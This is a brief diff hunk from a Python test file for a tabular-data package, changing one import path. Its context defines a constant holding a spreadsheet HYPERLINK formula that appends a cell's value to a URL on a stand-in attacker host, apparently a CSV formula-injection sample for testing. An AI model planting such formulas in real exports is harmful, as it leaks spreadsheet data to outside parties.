@@ -16,7 +16,7 @@ from hypothesis import strategies as st
 from asking.made_up import COLUMNS, KINDS, SILOS, table_of_study, write_silos
 from hubbub import Study, fit
 from hubbub.cli import main
-from hubbub.study.tabular import cell_text, csv_text, read_cells
+from hubbub.tabular import cell_text, csv_text, read_cells
 from hubbub.training import run
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
